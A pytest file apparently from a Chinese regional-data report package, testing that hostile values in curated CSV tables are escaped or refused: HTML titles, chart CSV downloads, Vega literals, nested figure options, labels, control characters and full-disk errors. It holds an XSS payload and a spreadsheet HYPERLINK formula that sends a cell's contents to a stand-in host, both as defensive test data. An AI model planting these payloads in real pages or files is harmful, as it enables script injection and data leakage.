"""Hostile curated tables and pages, second round (issue 22): theme names, chart CSV
downloads, Vega expressions, figure options, labels and control characters.

Every edited value below is made up for the test (fictional names and options).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shanxi_analysis import datasets, htmlsafe
from shanxi_analysis.cli import main

SCRIPT = "<script>alert(document.domain)</script><img src=x onerror=alert(1)>"


def edit_rows(path: Path, change) -> None:
    """Rewrite the CSV ``path`` with ``change(rows)`` applied (rows are dicts, in order)."""
    with path.open(encoding="utf-8", newline="") as fh:
        reader = csv.DictReader(fh)
        header, rows = reader.fieldnames, list(reader)
    rows = change(rows)
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=header, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def set_field(path: Path, pick, field: str, value) -> int:
    """Set ``field`` of the first row for which ``pick(row)`` holds; return its row number
    as an editor counts (the header is row 1)."""
    found = []

    def change(rows):
        for i, row in enumerate(rows, start=2):
            if pick(row) and not found:
                row[field] = value(row[field]) if callable(value) else value
                found.append(i)
        return rows

    edit_rows(path, change)
    assert found, f"no row of {path.name} to edit"
    return found[0]


# ---------------------------------------------------------------- #1 the theme page's title


def test_a_theme_name_is_shown_as_text_in_the_page_title(tmp_data, monkeypatch):
    import mistune

    from shanxi_analysis import notebook

    themes = tmp_data / "curated" / "themes.csv"
    set_field(themes, lambda r: r["theme_id"] != "overview", "name_en", lambda v: v + SCRIPT)
    theme = next(t for t in datasets.THEMES if t != "overview")
    shown = []
    monkeypatch.setattr(notebook, "_display", shown.append)
    notebook.Page(theme, lang="en", interactive=False).title()
    markdown = shown[0].data
    page = mistune.html(markdown)  # nbconvert renders a report's Markdown with mistune
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;alert(document.domain)" in page  # shown, as text


# ---------------------------------------------------------------- #7 CSV downloads


def _cells(spec: dict) -> list[dict]:
    from shanxi_analysis.report import html

    return list(csv.DictReader(io.StringIO(html._csv_of(spec))))


def test_a_chart_csv_download_holds_no_live_formula(monkeypatch):
    from shanxi_analysis.report import html

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    rows = [
        {"quote_en": formula, "value": -3.5, "note": "+1 plus", "who": "@fictional"},
        {"quote_en": "\tTabbed", "value": 2, "note": "-minus first", "who": "-12.5"},
    ]
    # the tidy rows a chart's figures give (read from the facts by id), hostile here
    monkeypatch.setattr(html, "_tidy_rows", lambda spec, lang: rows)
    monkeypatch.setattr(html, "TIDY_COLUMNS", ("quote_en", "value", "note", "who"))
    cells = _cells({"datasets": {"data-1": rows}})
    assert cells[0]["quote_en"] == "'" + formula
    assert [c["note"] for c in cells] == ["'+1 plus", "'-minus first"]
    assert cells[0]["who"] == "'@fictional" and cells[1]["quote_en"] == "'\tTabbed"
    assert cells[0]["value"] == "-3.5" and cells[1]["who"] == "-12.5"  # numbers stay numbers


@given(st.text())
def test_any_text_cell_reads_back_as_itself_and_never_starts_a_formula(text):
    cell = htmlsafe.csv_cell(text)
    assert cell in (text, "'" + text)
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert float(cell) == float(text)  # only a plain number may start with a sign


# ---------------------------------------------------------------- #10 Vega expressions


def test_a_quote_in_a_units_words_does_not_break_the_calculator(tmp_data):
    import vl_convert

    from shanxi_analysis import charts

    word = 'fictional o\'clock "yuan" \\'
    units = tmp_data / "curated" / "units.csv"
    rungs = lambda v: "; ".join(f"{r} {word}" for r in v.split("; "))  # noqa: E731
    set_field(units, lambda r: r["unit_id"] == "yuan", "ladder_en", rungs)
    svg = vl_convert.vegalite_to_svg(charts.loan_savings_calculator(lang="en").to_dict())
    assert "o'clock" in svg or "o&apos;clock" in svg or "o&#39;clock" in svg


@given(st.text())
def test_vega_string_is_a_literal_that_reads_back(text):
    literal = htmlsafe.vega_string(text)
    assert json.loads(literal) == text.replace("\u2028", " ").replace("\u2029", " ")
    assert "\u2028" not in literal and "\u2029" not in literal


# ---------------------------------------------------------------- #19-#21 figure options


def _key_figures_row(row) -> bool:
    return row["chart_type"] == "key_figures"


def test_deeply_nested_options_are_refused_with_file_row_and_field(tmp_data, capsys):
    figures = tmp_data / "curated" / "figures.csv"
    row = set_field(
        figures, _key_figures_row, "options", '{"a": ' + "[" * 10_000 + "]" * 10_000 + "}"
    )
    assert main(["check", "--lang", "en"]) == 2
    err = capsys.readouterr().err
    assert f"curated/figures.csv, row {row}, field 'options'" in err
    assert "nests" in err and "Traceback" not in err


def test_a_huge_columns_value_names_the_figure(tmp_data):
    from shanxi_analysis.charts import types

    figures = tmp_data / "curated" / "figures.csv"
    row = set_field(
        figures,
        _key_figures_row,
        "options",
        lambda v: json.dumps({**json.loads(v), "columns": 10**9}),
    )
    name = datasets.figures("en").index[row - 2]
    problems = [str(p) for p in types.figure_problems()]
    assert len(problems) == 1, problems
    assert f"curated/figures.csv, row {row}, field 'options'" in problems[0]
    assert f"figure {name}" in problems[0] and "columns" in problems[0]
    with pytest.raises(ValueError, match=f"figure {name}.*columns"):
        getattr(__import__("shanxi_analysis.charts", fromlist=[name]), name)(lang="en")


def test_a_key_figures_row_with_a_note_fails_check_naming_the_row(tmp_data, capsys):
    figures = tmp_data / "curated" / "figures.csv"
    row = set_field(figures, _key_figures_row, "note_en", "A fictional note")
    assert main(["check", "--lang", "en"]) == 1
    out = capsys.readouterr().out
    assert f"curated/figures.csv, row {row}, field 'note_en'" in out
    assert "key_figures takes no 'note'" in out


def test_an_option_that_is_no_parameter_of_the_chart_type_is_named(tmp_data):
    from shanxi_analysis.charts import types

    figures = tmp_data / "curated" / "figures.csv"
    row = set_field(
        figures,
        lambda r: r["chart_type"] == "change",
        "options",
        lambda v: json.dumps({**json.loads(v), "colour_scheme": "fictional"}),
    )
    (problem,) = types.figure_problems()
    assert (problem.row, problem.field) == (row, "options")
    assert "takes no 'colour_scheme'" in str(problem) and "expected one of" in str(problem)


def test_every_figure_of_the_data_can_be_drawn():
    from shanxi_analysis.charts import types

    assert types.figure_problems() == []


# ---------------------------------------------------------------- #22 labels


def test_a_code_without_labels_is_refused_naming_the_data_row(tmp_data):
    events = list(csv.DictReader((tmp_data / "curated" / "events.csv").open(encoding="utf-8")))
    kind = events[0]["kind"]
    labels = tmp_data / "curated" / "labels.csv"
    edit_rows(
        labels, lambda rows: [r for r in rows if (r["field"], r["code"]) != ("events.kind", kind)]
    )
    with pytest.raises(datasets.DataError) as info:
        datasets.validate()
    assert (info.value.file, info.value.row, info.value.field) == ("curated/events.csv", 2, "kind")
    assert f"events.kind and code {kind}" in str(info.value)


def _labelled_columns() -> list[tuple[str, str, str]]:
    """``(field, table file, column)`` of every coded field that ``labels.csv`` labels, as
    the datapackage lists them (the enum of ``labels.field``) and that is a table's column."""
    pkg = json.loads(datasets.package_path().read_text(encoding="utf-8"))
    resources = {r["name"]: r for r in pkg["resources"]}
    (spec,) = [f for f in resources["labels"]["schema"]["fields"] if f["name"] == "field"]
    found = []
    for field in spec["constraints"]["enum"]:
        table, _, column = field.partition(".")
        res = resources.get(table)
        if res and column in [f["name"] for f in res["schema"]["fields"]]:
            found.append((field, res["path"], column))
    return found


@pytest.mark.parametrize(("field", "table", "column"), _labelled_columns())
def test_every_code_a_chart_labels_needs_a_labels_row(tmp_data, field, table, column):
    """Each value used in a labelled field, an empty one included (it reads ``unstated``, as
    a cluster whose text names no tier), is refused by ``check`` without its labels row."""
    rows = list(csv.DictReader((tmp_data / table).open(encoding="utf-8")))
    codes = [r[column] or datasets.UNSTATED for r in rows]
    for code in dict.fromkeys(codes):  # each code in use, the empty one too
        labels = tmp_data / "curated" / "labels.csv"
        kept = labels.read_bytes()
        gone = (field, code)
        edit_rows(labels, lambda rs, gone=gone: [r for r in rs if (r["field"], r["code"]) != gone])
        with pytest.raises(datasets.DataError) as info:
            datasets.validate()
        where = (info.value.file, info.value.row, info.value.field)
        assert where == (table, codes.index(code) + 2, column), code
        assert f"field {field} and code {code}" in str(info.value)
        if code == datasets.UNSTATED:  # the case that passed check and failed the build
            assert main(["check"]) != 0
        labels.write_bytes(kept)
    datasets.validate()


def test_a_group_that_is_no_code_of_its_group_field_is_refused(tmp_data):
    labels = tmp_data / "curated" / "labels.csv"
    row = set_field(
        labels, lambda r: r["field"] == "entities.type" and r["group"], "group", "fictional"
    )
    with pytest.raises(datasets.DataError) as info:
        datasets.validate()
    assert (info.value.file, info.value.row, info.value.field) == (
        "curated/labels.csv",
        row,
        "group",
    )


# ---------------------------------------------------------------- string fields


def test_a_control_character_in_any_string_field_is_refused(tmp_data):
    themes = tmp_data / "curated" / "themes.csv"
    row = set_field(themes, lambda r: True, "name_en", lambda v: v + "\x1b[31m")
    with pytest.raises(datasets.DataError, match="U\\+001B") as info:
        datasets.validate()
    assert (info.value.row, info.value.field) == (row, "name_en")


# ---------------------------------------------------------------- #23 a full disk


def test_a_full_disk_names_the_disk_and_the_output_folder_not_a_cell(tmp_path, monkeypatch):
    import errno
    import os

    import papermill

    from shanxi_analysis.report import html, runner

    tasks, out = runner.plan(["development-zones"], langs="en", out=tmp_path / "out")

    def executed(source, target, **_options):  # the notebook ran; only the disk is full
        Path(target).write_text("{}", encoding="utf-8")
        return object()

    def full(path, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(papermill, "execute_notebook", executed)
    monkeypatch.setattr(html, "export", lambda nb, **options: "<html></html>")
    monkeypatch.setitem(runner._WORKER, "bootstrap", "<script></script>")
    monkeypatch.setattr(runner, "atomic_write", full)
    task = runner.run_task(tasks[0], out, show_code=False, workdir=tmp_path)
    assert task.status == "failed" and task.failed_notebook is None
    assert "no space left on the disk mounted at /" in task.message
    assert f"output folder {out.resolve()}" in task.message
    assert "cell" not in task.message and "Errno" not in task.message
    assert task.message.count("No space left") <= 1


@pytest.mark.parametrize("failing", ["index", "manifest"])
def test_a_full_disk_at_the_index_or_the_build_record_names_the_disk(
    tmp_path, monkeypatch, failing
):
    import errno
    import os

    from shanxi_analysis import report
    from shanxi_analysis.report import index, runner

    def full(path, data):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(report, "execute", lambda tasks, out, **options: None)
    monkeypatch.setattr(index if failing == "index" else runner, "atomic_write", full)
    out = tmp_path / "out"
    result = report.build(
        ["development-zones"], langs="en", out=out, check_data=False, progress=False
    )
    (problem,) = result.problems
    assert "no space left on the disk mounted at /" in problem
    assert f"output folder {out.resolve()}" in problem
    assert "Errno" not in problem and "OSError" not in problem


def test_no_chart_builds_a_vega_string_literal_around_a_value():
    """A value between quotes in an f-string (``"'{unit}'"``) is a Vega string literal that
    the value can end; the charts write such literals with htmlsafe.vega_string instead."""
    import ast

    from shanxi_analysis import paths

    found = []
    for path in sorted((paths.PACKAGE_DIR / "charts").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        searched = {  # `f"'{name}'" in text` looks for a name; it builds no expression
            id(n.left)
            for n in ast.walk(tree)
            if isinstance(n, ast.Compare) and isinstance(n.ops[0], ast.In)
        }
        for node in ast.walk(tree):
            if not isinstance(node, ast.JoinedStr) or id(node) in searched:
                continue
            parts = node.values
            for before, value, after in zip(parts, parts[1:], parts[2:], strict=False):
                if (
                    isinstance(value, ast.FormattedValue)
                    and isinstance(before, ast.Constant)
                    and isinstance(after, ast.Constant)
                    and before.value[-1:] in ("'", '"')
                    and after.value[:1] == before.value[-1:]
                ):
                    found.append(f"{path.name}:{node.lineno}: {ast.unparse(value.value)}")
    assert found == []
